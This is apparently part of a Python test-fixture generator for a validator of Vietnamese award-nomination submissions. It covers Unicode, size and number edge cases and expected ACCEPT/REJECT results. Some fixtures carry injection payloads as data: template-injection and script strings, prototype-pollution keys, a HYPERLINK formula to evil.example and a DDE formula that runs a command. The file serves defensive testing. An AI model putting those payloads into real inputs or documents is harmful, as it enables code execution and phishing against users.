accept("template-injection", ok_record("{{7*7}} ${7*7} <%= 7*7 %> #{7*7}", "{{constructor.constructor('alert(1)')()}}"))
accept("spreadsheet-formula", ok_record("=HYPERLINK(\"http://evil.example\",\"Nhấn vào đây\")",
                                        "@SUM(1+1)*cmd|' /C calc'!A0"))
accept("html-entities", ok_record("&lt;script&gt; &amp;amp; &#x3C;b&#x3E;", "Rock & Roll <b>đậm</b> &nbsp;"))
accept("backslashes-and-quotes", ok_record("C:\\Windows\\System32 \"trích dẫn\" 'đơn' `ngược`", "\\u0000 \\n"))
accept("right-to-left-override", ok_record("\u202eNguyễn Văn An", "abc\u202edef\u202c ghi"))
accept("arabic-and-hebrew", ok_record("محمد عبد الله", "שלום עולם"))
accept("bidi-embedding-mixed", ok_record("Nguyễn \u202bمحمد\u202c Văn \u2067דוד\u2069", "\u200fتجربة\u200e"))
accept("nfd-vietnamese", ok_record(unicodedata.normalize("NFD", "Nguyễn Thị Hoà"),
                                   unicodedata.normalize("NFD", "Sáng kiến cải tiến thủ tục")))
accept("combining-stack", ok_record("N\u0338\u0321\u031b\u0323g\u0336\u031d\u035au\u0334y\u0337\u1ec5\u0335n",
                                    "a" + "\u0301" * 200))
accept("emoji-zwj-and-flags", ok_record("👩\u200d💼 Trần Thị Mai 🇻🇳", "🚀 Sáng kiến số 😀"))
accept("astral-plane", ok_record("𝕹𝖌𝖚𝖞𝖊𝖓 𠀀𠀁 𓀀", "𝒮á𝓃𝑔 𝓀𝒾ế𝓃 🀄"))
accept("escaped-surrogate-pair", inside(ok_record("@S@ Lê Văn Tám"), "@S@", "\\ud83d\\ude00"), key="SO-TC")
accept("zero-width-and-bom-inside", ok_record("Nguyễn\u200b Văn\u200c\u200d An\ufeff", "\u2060Sáng\u00adkiến"))
accept("unicode-line-separators-and-c1", ok_record("Dòng\u2028một\u2029hai\u0085ba\u00a0bốn", "\u0080\u009f"))
accept("noncharacters-and-replacement", ok_record("\uffff\ufffe\ufdd0 \ufffd", "\U0010ffff"))
accept("whitespace-only-name", ok_record("   ", " "))
accept("long-name-10000-chars", ok_record(("Nguyễn Văn " * 1000)[:200], ("Sáng kiến " * 500)[:500]))
accept("hostile-staff-code", ok_record(staff="<b>NV</b>'\"&;-- 😀"))
accept("vietnamese-staff-code", ok_record("Đỗ Thị Ánh Tuyết", staff="CB-ĐỖ-ÁNH-TUYẾT"))
accept("staff-code-64-chars", ok_record(staff="S" * 64))
accept("staff-code-32-emoji", ok_record(staff="😀" * 32))
accept("vietnamese-everywhere", ok_record("Đặng Thị Ngọc Hường",
                                          "Ứng dụng công nghệ thông tin trong cải cách hành chính – “Một cửa điện tử”"))
r = ok_record("Phạm Thị Lan")
r["nominees"] = [nominee(i, "Người thứ %d <i>%d</i>" % (i, i)) for i in range(300)]
accept("three-hundred-nominees", r)
r = ok_record("Vũ Văn Minh")
r["nominees"][0]["initiatives"] = [{"title": "Sáng kiến %d \"%d\"" % (i, i), "level": "PROVINCE"} for i in range(1000)]
accept("thousand-initiatives", r)
r = ok_record("Hoàng Văn Thái")
r["extra"] = {"nested": {"array": [1, "x", {"deep": [None, True, {"more": []}]}]}}
r["__proto__"] = {"admin": True}
r["constructor"] = {"prototype": {"polluted": "yes"}}
r["submissionid"] = "khác-biệt-chữ-hoa"
r["nominees"][0]["extra"] = ["a", {"b": [1, 2, {"c": "d"}]}]
r["nominees"][0]["initiatives"][0]["extra"] = {"year": 2023, "tags": ["<script>", "\r\n"]}
accept("unknown-fields-everywhere", r)
r = ok_record("Đinh Công Tráng")
r["note"] = "@C@"
accept("controls-in-unknown-field", inside(r, "@C@", "a\\r\\n\\u0000\\t\\u001b\u007f"), key="UBND-PL")
r = ok_record("Lý Thường Kiệt")
r["huge"] = "@N@"
accept("huge-number-in-unknown-field", raw(r, "@N@", "[1e999999999, -1e400, " + "9" * 100 + ", 1e-300, -0]"),
       key="UBND-BL")
r = ok_record("Trần Hưng Đạo")
r["deep"] = "@N@"
accept("nesting-64-in-unknown-field", raw(r, "@N@", "[" * 63 + "]" * 63), key="UBND-LN")
r = ok_record("Lê Lợi")
r.update(members=None, results=None)
r["nominees"][0]["initiatives"] = None
accept("explicit-nulls-for-optional-fields", r)
r = ok_record("@U@")
accept("unicode-escapes-everywhere", inside(r, "@U@", "\\u004e\\u0067\\u0075\\u0079\\u1ec5\\u006e \\/ \\\"\\\\"),
       key="SO-KHDT")
accept("exotic-json-whitespace", json.dumps(ok_record("Ngô Quyền"), ensure_ascii=False, indent="\t")
       .replace("\n", "\r\n"), key="SO-TC")
r = ok_record("Mạc Đăng Dung")
r["submittedAt"] = "+999999999-12-31T23:59:59.999999999-18:00"
accept("latest-possible-instant", r)
r = ok_record("Hồ Quý Ly")
r["submittedAt"] = "-999999999-01-01T00:00:00+18:00"
accept("earliest-possible-instant", r)
r = ok_record("Nguyễn Trãi")
r["submittedAt"] = "2024-01-12T09:30:00.123456789Z"
accept("nanosecond-instant-utc", r)
r = ok_record("Nguyễn Du")
r["submissionId"] = "Az09-_." + "x" * 57
accept("submission-id-64-chars", r)
r = ok_record("Nguyễn Khuyến")
r["submissionId"] = "..."
accept("submission-id-dots", r)
accept("hostile-record-key", ok_record("Chu Văn An"), key="<script>alert(1)</script>\r\n")
accept("no-record-key", text(ok_record("Tô Hiến Thành")), key=None)
accept("key-of-another-unit", ok_record("Lương Thế Vinh"), key="SO-NV")

# results-bearing hostile-but-valid submissions (period 2022; the reference run includes them)
r = base(next_id("ok"), unit="SO-TC", period="2022")
r["nominees"][0]["staffCode"] = "HS-%03d-0" % COUNTER["ok"]
r["extra"] = {"x": [1, {"y": "z"}]}
r["members"] = {"total": 43, "women": 43, "men": 0, "note": {"a": ["b"]}}
r["results"][0].update(target="@T@", actual="@A@", note="ghi chú\r\n")
r["results"][2].update(target="không dùng", extra=[None])
r["results"][3]["actual"] = 1
r["results"][4]["actual"] = 3.0
r["results"][5]["actual"] = "@B@"
r["nominees"][0]["extra"] = {"phone": "+84 912 345 678"}
t = raw(r, "@T@", "12.000000000000")
t = t.replace('"@A@"', "1.48e1").replace('"@B@"', "2.0E0")
accept("results-with-unknown-fields-and-odd-numbers", t, key="SO-TC")
r = base(next_id("ok"), unit="UBND-LN", period="2022")
r["nominees"][0]["staffCode"] = "HS-%03d-0" % COUNTER["ok"]
for res in r["results"]:
    res["actual"] = False if res["criterion"] == "XH1" else 0
r["results"][0]["actual"] = "@Z@"
accept("results-all-zero", raw(r, "@Z@", "0e-999999999"), key="UBND-LN")
r = base(next_id("ok"), unit="UBND-BL", period="2022")
r["nominees"][0]["staffCode"] = "HS-%03d-0" % COUNTER["ok"]
r["results"][1]["actual"] = 0
r["results"][0]["actual"] = 1000000000000000
accept("results-extreme-but-valid", r, key="UBND-BL")

# generated by the test (padToBytes): exactly the limit, and a name of a million bytes
accept("exactly-1-mib", text(dict(ok_record("Nguyễn Thị Hoa"), padding="@PAD@")), padToBytes=MIB, pad="x")
# names are capped at 200 characters and titles at 500 (SubmissionValidator): a name of a million bytes would
# make the award events and letters of a close too large to publish
record = ok_record("@PAD@")
add("million-byte-name", "REJECT", text(record), ["INVALID_VALUE"], ["nominees[0].fullName"], key=record["unitCode"],
    padToBytes=1_000_000, pad="Nguyễn Thị Hoa ")
record = ok_record("Nguyễn Thị Hoa", "Sáng kiến " * 500)
add("initiative-title-5000-chars", "REJECT", text(record), ["INVALID_VALUE"], ["nominees[0].initiatives[0].title"],
    key=record["unitCode"])
record = ok_record("Nguyễn Văn " * 20)
add("name-201-chars", "REJECT", text(record), ["INVALID_VALUE"], ["nominees[0].fullName"], key=record["unitCode"])

for e in ENTRIES:
    print(json.dumps(e, ensure_ascii=True))
print("%d records: %d REJECT, %d ACCEPT" % (len(ENTRIES), sum(e["expect"] == "REJECT" for e in ENTRIES),
                                           sum(e["expect"] == "ACCEPT" for e in ENTRIES)), file=sys.stderr)
